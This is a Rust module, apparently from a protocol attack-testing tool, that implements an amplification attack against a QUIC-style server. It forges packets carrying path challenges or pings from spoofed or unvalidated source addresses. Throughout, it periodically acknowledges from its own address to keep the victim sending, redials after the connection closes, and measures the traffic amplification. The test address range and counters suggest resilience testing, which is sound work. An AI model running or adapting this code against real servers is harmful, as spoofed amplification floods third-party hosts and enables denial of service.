//! Packets of a connection from addresses that are not validated.

use std::{
    net::{Ipv4Addr, SocketAddrV4},
    thread,
    time::Duration,
};

use anyhow::Result;
use rand::RngExt;

use super::{
    Prepared, VICTIM,
    forger::{self, Forger, any_source, owned_source},
    frames,
    peer::{Introduction, Peer},
};
use crate::attack::catalogue::Amplifying;

pub fn amplifying(how: Amplifying) -> Result<Prepared> {
    let mut forger = Forger::new()?;
    let mut peer = Peer::dial(&Introduction::of_a_peer(VICTIM)?)?;
    let ears = forger::ears()?;
    Ok(Box::new(move |run| {
        run.attacked.begun = 1;
        let mut frames = Vec::new();
        match how {
            Amplifying::Challenges => frames::path_challenge(&mut frames, rand::rng().random()),
            Amplifying::Pings | Amplifying::Turns => frames.push(frames::PING),
        }
        let mut count = 0;
        while run.goes_on() {
            let from = match how {
                Amplifying::Challenges => owned_source(rand::rng().random()),
                Amplifying::Pings => any_source(),
                Amplifying::Turns => TURNS[count % TURNS.len()],
            };
            let datagram = peer.packet(&frames);
            forger.send(from, &datagram)?;
            run.sent(1, datagram.len());
            count += 1;
            peer.listen();
            if how == Amplifying::Challenges && count % ACKNOWLEDGE_EVERY == 0 {
                // From its own address; otherwise the congestion window would fill up.
                peer.listen_at(&ears);
                let mut frames = Vec::new();
                peer.acknowledge(&mut frames);
                let datagram = peer.padded(&frames, SMALLEST);
                peer.send(&datagram);
            }
            if peer.is_closed {
                run.attacked.ended += 1;
                peer = Peer::dial(&Introduction::of_a_peer(VICTIM)?)?;
                run.attacked.begun += 1;
            }
            thread::sleep(EVERY);
        }
        run.attacked.amplified = Some(forger.amplified(run.linger)?);
        Ok(vec![peer])
    }))
}

const ACKNOWLEDGE_EVERY: usize = 4;

/// Bytes of the smallest packet; a packet without a frame is an error.
const SMALLEST: usize = 40;

/// Two ports of the same host.
const TURNS: [SocketAddrV4; 2] = [
    SocketAddrV4::new(Ipv4Addr::new(198, 18, 0, 1), 4001),
    SocketAddrV4::new(Ipv4Addr::new(198, 18, 0, 1), 4002),
];

/// Longer than a round of the victim, so that each packet is a separate change.
const EVERY: Duration = Duration::from_millis(2);
